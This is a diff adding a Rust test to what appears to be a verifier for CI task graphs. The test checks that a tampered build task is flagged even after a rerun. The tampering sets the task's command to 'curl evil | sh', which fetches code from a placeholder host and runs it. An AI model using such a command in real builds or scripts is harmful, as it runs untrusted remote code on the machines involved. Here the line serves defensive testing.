@@ -271,6 +271,24 @@ fn a_graph_of_another_run_is_known_as_such_v54() {
     }
 }
 
+/// A task that is in the last run's graph is of the last run: that there were others excuses no change to it.
+#[test]
+fn a_rerun_does_not_explain_a_task_that_was_changed_v55() {
+    let mut chain = ChainSpec::new(1, Event::XpiPush).build();
+    run_again(&mut chain, "decision");
+    chain.edit_definition("build-0", |task| {
+        task["payload"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    });
+    let report = verify(&chain);
+    let changed: Vec<_> = report
+        .findings
+        .iter()
+        .filter(|finding| finding.id == "graph-match")
+        .collect();
+    assert!(!changed.is_empty(), "{:#?}", report.findings);
+    assert!(changed.iter().all(|finding| finding.pattern.is_none()));
+}
+
 /// Makes all that a task has be of its second run.
 fn run_again(chain: &mut Chain, name: &str) {
     let (id, run) = (chain.task(name).id, RunId(1));
